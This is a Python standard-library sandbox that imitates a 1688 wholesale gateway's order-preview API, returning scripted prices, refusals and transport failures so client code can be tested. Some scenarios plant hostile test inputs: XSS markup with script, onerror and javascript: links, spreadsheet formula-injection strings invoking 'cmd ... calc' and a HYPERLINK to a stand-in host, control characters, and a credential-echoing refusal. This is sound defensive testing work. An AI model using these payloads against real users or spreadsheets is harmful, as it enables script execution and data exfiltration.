"""A local stand-in for the gateway's *Preview order* endpoint, over real HTTP.

Run: `python -m previews.sandbox --port 8001 [--latency 0.2] [--app-key KEY]`.
Standard library only, so it starts anywhere; it answers in the shapes, units and
spelling of ../shared/upstream/preview-order.md, deterministically from its input.

Conventions (also in the README, "The sandbox gateway"):

* **Seller of an offer** = `offerId // 1_000_000` (offers sharing all but their last six
  digits belong to one seller). A request mixing sellers is refused with `500_002`.
* **Prices**: the reference's example offer 670291644950 / spec 594b40c1…6373 costs
  ¥13.90 with a ¥0.69 PLUS promotion and ¥3.50 carriage, exactly as documented. Any other
  offer's unit price is derived from a hash of offer and spec (¥1.00 to ¥200.99); offers
  with an even hundreds digit get a 5% "PLUS会员价" promotion. Carriage per record is
  ¥3.50 plus ¥1.00 per further line, free from ¥500.00 of goods; a record with goods of
  ¥300.00 or more gets a shop promotion "满300减20" (2000 fen).
* **Scenario** = the offer id's last three digits (the example offer 670291644950 has none):

  | last digits | what the sandbox does |
  |---|---|
  | 7xx | the line goes into a second record (automatic order splitting) |
  | 810-819 | carriage "as described": offer listed in `postFeeByDescOfferList` |
  | 820-829 | offer listed in `unsupportedCrossBorderPayOfferList` |
  | 830-834 | empty `tradeModeNameList`: cannot be ordered through the API |
  | 835-839 | `tradeModeNameList: null` (and no `tradeModelList`): the same, spelt null |
  | 840-849 | consignment offer (`consignOfferList`); the only ones `saleproxy` accepts |
  | 860 | `discountFee` (coupon 店铺券减5元, 500 fen) taken after `sumPaymentNoCarriage` = goods |
  | 861 | record `additionalFee` 300 fen (¥3.00), included in `sumPayment` |
  | 862 | figures that do not add up: `sumPayment` 37 fen more than its parts explain |
  | 863 | shop promotion "满2件包邮" with `freePostage: true`: carriage 0 |
  | 864 | line promotion "限时包邮" with `freePostage: true`: carriage 0 |
  | 901 | refusal: `success: false`, `errorCode: 500_001` |
  | 903 | refusal `500_003` (the spec does not belong to the offer) |
  | 904 | the line has `resultCode: 500_004` (not enough stock) and its record `status: false` |
  | 905 | minimum order quantity 10: fewer gives a record `status: false`, `500_005` |
  | 906 | mixed-batch condition ¥1,000: less gives a record `status: false`, `500_006` |
  | 950 | HTTP 500 with an HTML body |
  | 951 | HTTP 429 |
  | 952 | slow: answers after `--slow` seconds (default 10) |
  | 953 | a body that is not JSON |
  | 954 | HTTP 503 on the first call with this body, a normal answer on the next |
  | 955 | `code: 1009` with the error nested in `data` |
  | 956 | JSON without `data` |
  | 957 | HTTP 400 `gw.QosAppFrequencyLimit` (1688's rate limit) |
  | 958 | a refusal echoing the request and credentials: JSON-escaped, URL-encoded, raw |
  | 959 | a promotion whose `desc` carries a script, an event handler and a link (hostile HTML) |
  | 960 | `code: 500` "系统繁忙,请稍后再试" (busy) on the first call with this body, then normal |
  | 961 | `code: 500` "系统繁忙,请稍后再试" (busy) on every call |
  | 962 | trickles: a normal answer, its body one byte every `--trickle` s (default 0.5) |
  | 963 | formulas: the line's `specId`, `message` and a promotion `text` start `=`, `@`, `+` |
  | 964 | control characters: the line's `message` holds a NUL and an escape sequence |
  | 965 | HTTP 502 whose plain-text body holds a NUL byte |

* **Strict checks**: every `addressParam` field present and non-empty, quantity at least
  1, at most 50 lines, one seller, a known flow (empty = the sandbox picks `general`),
  and `appKey` equal to `--app-key` when one is configured.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import threading
import time
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, urlencode

PREVIEW_PATH = "/alibaba/createOrder/preview"
ADDRESS_FIELDS = (
    "fullName", "mobile", "phone", "postCode", "cityText", "provinceText",
    "areaText", "townText", "address", "districtCode",
)  # fmt: skip
FLOWS = {
    "general",
    "fenxiao",
    "paired",
    "repurchase",
    "saleproxy",
    "boutiquefenxiao",
    "boutiquepifa",
}
EXAMPLE_OFFER = 670291644950
# Scenario 963: texts a spreadsheet would run as formulas (CSV/XLSX injection).
FORMULA_SPEC = '=HYPERLINK("http://x.test/?"&A1,"1688")'
FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PROMOTION = "+cmd|' /C calc'!A0"
EXAMPLE_SPEC = "594b40c111b019af610a0078e4316373"
SHOP_THRESHOLD_FEN = 30000
SHOP_DISCOUNT_FEN = 2000
FREE_CARRIAGE_FROM_FEN = 50000
TRADE_MODE = {
    "tradeWay": None,
    "name": "担保交易",
    "tradeType": "assureTrade",
    "description": (
        "买家下单后5天内支付全款,逾期付款,交易关闭。付款成功后卖家发货,买家在10天内确认收货。"
    ),
    "opSupport": True,
}
PAY_CHANNELS = [{"name": "alipay", "amountLimit": None}, {"name": "shegou", "amountLimit": 30000}]


def seller_of(offer_id: int) -> int:
    return offer_id // 1_000_000


def scenario_of(offer_id: int) -> int:
    # The reference's own example offer ends in 950; it must stay the worked example.
    return 0 if offer_id == EXAMPLE_OFFER else offer_id % 1000


def unit_price_fen(offer_id: int, spec_id: str | None) -> int:
    if offer_id == EXAMPLE_OFFER:
        return 1390
    digest = hashlib.sha256(f"{offer_id}:{spec_id or ''}".encode()).digest()
    return 100 + int.from_bytes(digest[:4], "big") % 20000


def has_plus_promotion(offer_id: int) -> bool:
    return offer_id == EXAMPLE_OFFER or (offer_id // 100) % 2 == 0


def yuan(fen: int) -> Decimal:
    return (Decimal(fen) / 100).normalize() if fen % 100 else Decimal(fen // 100)


def echo_message(raw: bytes) -> str:
    """What a careless proxy says back (scenario 958): the body as it came, then the
    credentials as it would put them in a query string, a path, its own JSON log, and raw."""
    request = json.loads(raw)
    key, secret = str(request.get("appKey") or ""), str(request.get("appSecret") or "")
    return (
        f"请求内容: {raw.decode(errors='replace')}"
        f" 查询串: {urlencode({'appKey': key, 'appSecret': secret})}"
        f" 路径: /{quote(key, safe='')}/{quote(secret)}"
        f" 日志: {json.dumps({'appKey': key, 'appSecret': secret}, ensure_ascii=False)}"
        f" 凭据: {key} {secret}"
    )


class _Trickled(bytes):
    """A body the HTTP handler sends one byte every `delay` seconds (scenario 962)."""

    def __new__(cls, body: bytes, delay: float):
        trickled = super().__new__(cls, body)
        trickled.delay = delay
        return trickled


class _Refusal(Exception):
    def __init__(self, code: str, message: str):
        super().__init__(message)
        self.code = code
        self.message = message


def _encode(document: dict) -> bytes:
    """JSON with Decimal amounts written as plain numbers (no float on the way)."""

    def default(value):
        if isinstance(value, Decimal):
            return f"__decimal__{value}"
        raise TypeError(type(value).__name__)

    text = json.dumps(document, ensure_ascii=False, default=default)
    return re.sub(r'"__decimal__([-0-9.E+]+)"', r"\1", text).encode()


class Sandbox:
    """The behaviour, separate from HTTP so each rule reads plainly."""

    def __init__(
        self, *, app_key: str = "", latency: float = 0.0, slow: float = 10.0, trickle: float = 0.5
    ):
        self.app_key = app_key
        self.latency = latency
        self.slow = slow
        self.trickle = trickle
        self._seen: dict[str, int] = {}
        self._lock = threading.Lock()
        self._trace_counter = 0

    def trace_id(self, body: bytes) -> str:
        with self._lock:
            self._trace_counter += 1
            counter = self._trace_counter
        return hashlib.sha1(body + str(counter).encode(), usedforsecurity=False).hexdigest()[:12]

    def envelope(self, data, *, code=200, message="操作成功", trace_id: str) -> dict:
        return {
            "code": code,
            "message": message,
            "data": data,
            "timestamp": int(time.time() * 1000),
            "traceId": trace_id,
        }

    def refusal(self, code: str, message: str, trace_id: str) -> dict:
        return self.envelope(
            {
                "orderPreviewResuslt": None,
                "success": False,
                "errorCode": code,
                "errorMsg": message,
                "postFeeByDescOfferList": None,
                "consignOfferList": None,
                "unsupportedCrossBorderPayOfferList": [],
            },
            trace_id=trace_id,
        )

    def first_time(self, fingerprint: str) -> bool:
        with self._lock:
            count = self._seen.get(fingerprint, 0)
            self._seen[fingerprint] = count + 1
        return count == 0

    def answer(self, raw: bytes) -> tuple[int, str, bytes]:
        """(HTTP status, content type, body) for one preview request."""
        trace_id = self.trace_id(raw)
        try:
            request = json.loads(raw)
        except ValueError:
            return (
                400,
                "application/json",
                _encode(
                    self.envelope(None, code=400, message="请求体不是合法的JSON", trace_id=trace_id)
                ),
            )
        if not isinstance(request, dict):
            return (
                400,
                "application/json",
                _encode(
                    self.envelope(None, code=400, message="请求体必须是对象", trace_id=trace_id)
                ),
            )
        if self.app_key and request.get("appKey") != self.app_key:
            return (
                200,
                "application/json",
                _encode(self.envelope(None, code=1001, message="appKey无效", trace_id=trace_id)),
            )
        cargo = request.get("cargoParamList")
        scenarios = set()
        if isinstance(cargo, list):
            scenarios = {
                scenario_of(c["offerId"])
                for c in cargo
                if isinstance(c, dict) and isinstance(c.get("offerId"), int)
            }
        failure = self.transport_failure(scenarios, raw, trace_id)
        if failure:
            return failure
        try:
            data = self.preview(request)
        except _Refusal as refusal:
            return (
                200,
                "application/json",
                _encode(self.refusal(refusal.code, refusal.message, trace_id)),
            )
        body = _encode(self.envelope(data, trace_id=trace_id))
        if 962 in scenarios:
            body = _Trickled(body, self.trickle)
        return 200, "application/json", body

    def transport_failure(self, scenarios: set[int], raw: bytes, trace_id: str):
        if 952 in scenarios:
            time.sleep(self.slow)
        if 950 in scenarios:
            html = b"<html><head><title>500 Internal Server Error</title></head>"
            html += b"<body><h1>nginx</h1></body></html>"
            return 500, "text/html", html
        if 951 in scenarios:
            return 429, "text/plain", b"Too Many Requests"
        if 965 in scenarios:
            return 502, "text/plain", b"upstream\x00 failed"
        if 953 in scenarios:
            return (
                200,
                "text/html",
                b"<html><body>Bad gateway: upstream returned garbage</body></html>",
            )
        if 954 in scenarios and self.first_time(self.fingerprint(raw)):
            return (
                503,
                "text/html",
                b"<html><body>503 Service Temporarily Unavailable</body></html>",
            )
        if 955 in scenarios:
            nested = {
                "result": {
                    "success": False,
                    "errorInfo": "订单信息不存在,请核对后重试",
                    "errorCode": "4003",
                }
            }
            return (
                200,
                "application/json",
                _encode(
                    self.envelope(nested, code=1009, message="预览订单失败", trace_id=trace_id)
                ),
            )
        if 956 in scenarios:
            return (
                200,
                "application/json",
                _encode(
                    {
                        "code": 200,
                        "message": "操作成功",
                        "timestamp": int(time.time() * 1000),
                        "traceId": trace_id,
                    }
                ),
            )
        if 961 in scenarios or (960 in scenarios and self.first_time(self.fingerprint(raw))):
            busy = self.envelope(None, code=500, message="系统繁忙,请稍后再试", trace_id=trace_id)
            return 200, "application/json", _encode(busy)
        if 958 in scenarios:
            echoed = self.refusal("ECHO", echo_message(raw), trace_id)
            return 200, "application/json", _encode(echoed)
        if 957 in scenarios:
            body = {
                "error_code": "gw.QosAppFrequencyLimit",
                "error_message": "App call exceeds limited frequency",
            }
            return 400, "application/json", _encode(body)
        return None

    @staticmethod
    def fingerprint(raw: bytes) -> str:
        try:
            request = json.loads(raw)
            request.pop("appKey", None)
            request.pop("appSecret", None)
            canonical = json.dumps(request, sort_keys=True)
        except (ValueError, AttributeError):
            canonical = raw.decode(errors="replace")
        return hashlib.sha256(canonical.encode()).hexdigest()

    def preview(self, request: dict) -> dict:
        address = request.get("addressParam")
        if not isinstance(address, dict):
            raise _Refusal("ADDRESS_REQUIRED", "缺少收货地址信息 addressParam")
        missing = [f for f in ADDRESS_FIELDS if not str(address.get(f) or "").strip()]
        if missing:
            raise _Refusal("ADDRESS_INCOMPLETE", "收货地址信息不完整: " + ", ".join(missing))
        flow = request.get("flow") or ""
        if flow and flow not in FLOWS:
            raise _Refusal("FLOW_INVALID", f"不支持的flow: {flow}")
        cargo = request.get("cargoParamList")
        if not isinstance(cargo, list) or not cargo:
            raise _Refusal("CARGO_REQUIRED", "缺少商品信息 cargoParamList")
        if len(cargo) > 50:
            raise _Refusal("CARGO_TOO_MANY", "每次最多50个商品")
        lines = []
        for item in cargo:
            offer_id = item.get("offerId") if isinstance(item, dict) else None
            quantity = item.get("quantity") if isinstance(item, dict) else None
            if not isinstance(offer_id, int) or isinstance(offer_id, bool) or offer_id <= 0:
                raise _Refusal("500_002", "商品offerId缺失或无效")
            if isinstance(quantity, bool) or not isinstance(quantity, int | float) or quantity < 1:
                raise _Refusal("500_005", f"商品{offer_id}的数量必须至少为1")
            lines.append((offer_id, item.get("specId"), int(quantity)))
        if len({seller_of(o) for o, _, _ in lines}) > 1:
            raise _Refusal("500_002", "预览订单只允许同一个供应商的商品")
        scenarios = {scenario_of(o) for o, _, _ in lines}
        if 901 in scenarios:
            raise _Refusal("500_001", "该商品不支持在线交易")
        if 903 in scenarios:
            raise _Refusal("500_003", "规格不属于该商品")
        if flow == "saleproxy" and not all(840 <= s <= 849 for s in scenarios):
            raise _Refusal("500_007", "没有代销关系,不能使用saleproxy流程")
        groups: dict[int, list] = {}
        for line in lines:
            groups.setdefault(1 if 700 <= scenario_of(line[0]) <= 799 else 0, []).append(line)
        records = [self.record(group, flow or "general") for _, group in sorted(groups.items())]
        offers = [o for o, _, _ in lines]
        return {
            "orderPreviewResuslt": records,
            "success": True,
            "errorCode": None,
            "errorMsg": None,
            "postFeeByDescOfferList": [str(o) for o in offers if 810 <= scenario_of(o) <= 819]
            or None,
            "consignOfferList": [str(o) for o in offers if 840 <= scenario_of(o) <= 849] or None,
            "unsupportedCrossBorderPayOfferList": [
                str(o) for o in offers if 820 <= scenario_of(o) <= 829
            ],
        }

    def record(self, lines: list, flow: str) -> dict:
        cargo_list = []
        goods_fen = 0
        status, message, result_code = True, None, None
        for offer_id, spec_id, quantity in lines:
            unit = unit_price_fen(offer_id, spec_id)
            gross = unit * quantity
            promotions = []
            discount = 0
            if scenario_of(offer_id) == 959:
                promotions.append(
                    {
                        "promotionId": f"xss-{offer_id}",
                        "selected": False,
                        "text": "<b>限时</b>优惠<script>window.__xss='text'</script>",
                        "desc": (
                            "<p onclick=\"window.__xss='click'\">限时优惠</p>"
                            "<img src=x onerror=\"window.__xss='img'\">"
                            "<script>window.__xss='script'</script>"
                            "<a href=\"javascript:window.__xss='link'\">详情</a>"
                        ),
                        "freePostage": False,
                        "discountFee": 0,
                    }
                )
            if scenario_of(offer_id) == 963:
                promotions.append(
                    {
                        "promotionId": f"formula-{offer_id}",
                        "selected": False,
                        "text": FORMULA_PROMOTION,
                        "desc": "",
                        "freePostage": False,
                        "discountFee": 0,
                    }
                )
            if scenario_of(offer_id) == 864:
                promotions.append(
                    {
                        "promotionId": f"free-postage-{offer_id}",
                        "selected": True,
                        "text": "限时包邮",
                        "desc": "<p>限时包邮</p>",
                        "freePostage": True,
                        "discountFee": None,
                    }
                )
            if has_plus_promotion(offer_id):
                discount = 69 * quantity if offer_id == EXAMPLE_OFFER else (gross * 5 + 50) // 100
                promotions.append(
                    {
                        "promotionId": f"plus-{seller_of(offer_id)}-{offer_id}",
                        "selected": False,
                        "text": f"省{yuan(discount)}:PLUS会员价",
                        "desc": f"<ul><li>PLUS会员价:省{yuan(discount)}元</li></ul>",
                        "freePostage": False,
                        "discountFee": discount,
                    }
                )
            amount_fen = gross - discount
            goods_fen += amount_fen
            line = {
                "amount": yuan(amount_fen),
                "message": None,
                "finalUnitPrice": yuan(unit),
                "specId": spec_id,
                "skuId": int(hashlib.sha256(f"{offer_id}{spec_id}".encode()).hexdigest()[:12], 16),
                "resultCode": None,
                "offerId": offer_id,
                "cargoPromotionList": promotions,
                "openOfferId": "/"
                + hashlib.md5(str(offer_id).encode(), usedforsecurity=False).hexdigest()[:22]
                + "==",
            }
            scenario = scenario_of(offer_id)
            if scenario == 963:
                line["specId"], line["message"] = FORMULA_SPEC, FORMULA_MESSAGE
            if scenario == 964:
                line["message"] = "库存\u0000紧张\u001b[31m"
            if scenario == 904:
                line["resultCode"] = "500_004"
                line["message"] = (
                    f"商品{offer_id}" + (f"_{spec_id}" if spec_id else "") + "库存不足"
                )
                status, message, result_code = False, "库存不足", "500_004"
            if scenario == 905 and quantity < 10:
                status, message, result_code = False, f"商品{offer_id}未达到最小起订量10", "500_005"
            cargo_list.append(line)
        if any(scenario_of(o) == 906 for o, _, _ in lines) and goods_fen < 100000:
            status, message, result_code = False, "未达到店铺混批条件(满1000元)", "500_006"
        record_scenarios = {scenario_of(o) for o, _, _ in lines}
        carriage = 0 if goods_fen >= FREE_CARRIAGE_FROM_FEN else 350 + 100 * (len(lines) - 1)
        if record_scenarios & {863, 864}:
            carriage = 0
        shop_promotions = []
        if 863 in record_scenarios:
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-free-postage",
                    "selected": True,
                    "text": "满2件包邮",
                    "desc": "<p>店铺满2件包邮</p>",
                    "freePostage": True,
                    "discountFee": None,
                }
            )
        record_discount = None
        if goods_fen >= SHOP_THRESHOLD_FEN:
            record_discount = SHOP_DISCOUNT_FEN
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-300-20",
                    "selected": True,
                    "text": "满300减20",
                    "desc": "<p>店铺满<b>300</b>元减<b>20</b>元</p>",
                    "freePostage": False,
                    "discountFee": SHOP_DISCOUNT_FEN,
                }
            )
        no_carriage = goods_fen - (record_discount or 0)
        payment = no_carriage + carriage
        if 860 in record_scenarios:
            # 1688's documented reading: discountFee is taken after the goods subtotal.
            coupon = 500
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-coupon-5",
                    "selected": True,
                    "text": "店铺券减5元",
                    "desc": "<p>店铺优惠券:减5元</p>",
                    "freePostage": False,
                    "discountFee": coupon,
                }
            )
            record_discount = (record_discount or 0) + coupon
            no_carriage = goods_fen
            payment = goods_fen - record_discount + carriage
        additional = 300 if 861 in record_scenarios else None
        payment += additional or 0
        if 862 in record_scenarios:
            payment += 37  # the gateway's own inconsistency, for the pages to show
        no_trade_mode = {s for s in record_scenarios if 830 <= s <= 839}
        spelt_null = any(s >= 835 for s in no_trade_mode)
        return {
            "discountFee": record_discount,
            "tradeModeNameList": None if spelt_null else [] if no_trade_mode else ["assureTrade"],
            "status": status,
            "taoSampleSinglePromotion": False,
            "sumPayment": payment,
            "message": message,
            "sumCarriage": carriage,
            "resultCode": result_code,
            "sumPaymentNoCarriage": no_carriage,
            "additionalFee": additional,
            "flowFlag": flow,
            "cargoList": cargo_list,
            "shopPromotionList": shop_promotions,
            "tradeModelList": None if spelt_null else [] if no_trade_mode else [TRADE_MODE],
            "payChannelList": None,
            "payChannelInfos": PAY_CHANNELS,
        }


class CallLog:
    """How many preview calls the sandbox received, per offer: `GET /calls` answers it, so
    a test can prove how often the product called the gateway."""

    PATH = "/calls"

    def __init__(self):
        self._lock = threading.Lock()
        self.total = 0
        self.by_offer: dict[str, int] = {}

    def count(self, raw: bytes) -> None:
        try:
            offers = {str(c["offerId"]) for c in json.loads(raw)["cargoParamList"]}
        except (ValueError, KeyError, TypeError):
            offers = set()
        with self._lock:
            self.total += 1
            for offer in offers:
                self.by_offer[offer] = self.by_offer.get(offer, 0) + 1

    def as_json(self) -> bytes:
        with self._lock:
            return json.dumps({"total": self.total, "by_offer": self.by_offer}).encode()


def make_handler(sandbox: Sandbox):
    calls = CallLog()

    class Handler(BaseHTTPRequestHandler):
        server_version = "daji-sandbox/1"
        protocol_version = "HTTP/1.1"

        def do_POST(self):
            length = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(length)
            if self.path.split("?")[0] != PREVIEW_PATH:
                self.send(404, "application/json", b'{"code":404,"message":"not found"}')
                return
            calls.count(raw)
            if sandbox.latency:
                time.sleep(sandbox.latency)
            self.send(*sandbox.answer(raw))

        def do_GET(self):
            if self.path == CallLog.PATH:
                self.send(200, "application/json", calls.as_json())
                return
            text = (__doc__ or "").encode()
            self.send(200, "text/plain; charset=utf-8", text)

        def send(self, status: int, content_type: str, body: bytes):
            self.send_response(status)
            self.send_header(
                "Content-Type",
                content_type + ("" if "charset" in content_type else "; charset=utf-8"),
            )
            self.send_header("Content-Length", str(len(body)))
            if status in (429, 503):
                self.send_header("Retry-After", "0")
            self.end_headers()
            if not isinstance(body, _Trickled):
                self.wfile.write(body)
                return
            self.wfile.flush()
            self.close_connection = True
            for byte in body:  # until the client gives up and closes the connection
                time.sleep(body.delay)
                try:
                    self.wfile.write(bytes((byte,)))
                    self.wfile.flush()
                except OSError:
                    return

        def log_message(self, format, *args):  # the request line only: bodies hold credentials
            if os.environ.get("SANDBOX_QUIET") != "1":
                super().log_message(format, *args)

    return Handler


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    # The default backlog of 5 drops connections when a run calls for 20 suppliers at once,
    # and each dropped SYN costs the client a 1 s retransmission.
    request_queue_size = 128


def serve(host: str, port: int, sandbox: Sandbox) -> ThreadingHTTPServer:
    return _Server((host, port), make_handler(sandbox))


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="The local sandbox of the 1688 gateway.")
    parser.add_argument("--host", default=os.environ.get("SANDBOX_HOST", "127.0.0.1"))
    parser.add_argument("--port", type=int, default=int(os.environ.get("SANDBOX_PORT", "8001")))
    parser.add_argument(
        "--latency",
        type=float,
        default=float(os.environ.get("SANDBOX_LATENCY", "0.2")),
        help="seconds every answer waits (default 0.2)",
    )
    parser.add_argument(
        "--slow",
        type=float,
        default=float(os.environ.get("SANDBOX_SLOW_SECONDS", "10")),
        help="seconds a slow scenario (offer ending 952) waits",
    )
    parser.add_argument(
        "--app-key",
        default=os.environ.get("SANDBOX_APP_KEY", ""),
        help="when set, calls must send this appKey",
    )
    parser.add_argument(
        "--trickle",
        type=float,
        default=float(os.environ.get("SANDBOX_TRICKLE_SECONDS", "0.5")),
        help="seconds between the bytes of a trickled answer (offer ending 962)",
    )
    args = parser.parse_args(argv)  # fmt: skip
    server = serve(
        args.host,
        args.port,
        Sandbox(app_key=args.app_key, latency=args.latency, slow=args.slow, trickle=args.trickle),
    )
    print(f"Sandbox gateway on http://{args.host}:{server.server_port}{PREVIEW_PATH}", flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()


if __name__ == "__main__":
    main()
